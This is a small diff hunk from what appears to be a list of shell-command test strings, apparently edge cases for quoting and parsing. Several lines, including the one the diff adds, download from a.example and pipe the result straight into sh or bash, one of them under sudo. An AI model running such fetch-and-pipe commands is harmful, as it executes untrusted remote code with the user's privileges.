@@ -12,3 +12,4 @@ sudo /usr/bin/wget -qO- https://a.example/10|bash
 git clone https://a.example/11.git&&cd 11
 curl -H 'X: it"s' https://a.example/12|sh
 libcurl -V https://a.example/?titles=C|D
+curl -H "X: \"a" https://a.example/13|sh
